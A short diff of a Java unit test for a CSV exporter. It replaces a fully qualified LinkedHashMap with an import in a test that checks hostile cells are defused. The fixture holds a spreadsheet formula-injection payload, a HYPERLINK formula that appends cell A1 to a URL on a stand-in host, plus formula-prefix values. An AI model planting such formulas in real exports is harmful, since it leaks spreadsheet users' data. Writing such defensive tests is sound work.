@@ -5,6 +5,7 @@ import static org.assertj.core.api.Assertions.assertThat;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
+import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 
@@ -109,7 +110,7 @@ class CsvExporterTest {
 
     @Test
     void hostile_cells_are_defused_and_still_parse_to_fifteen_fields() throws IOException {
-        Map<String, String> hostile = new java.util.LinkedHashMap<>();
+        Map<String, String> hostile = new LinkedHashMap<>();
         hostile.put("h1", "=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Cliquez\")");
         hostile.put("h2", "+1");
         hostile.put("h3", "-2");
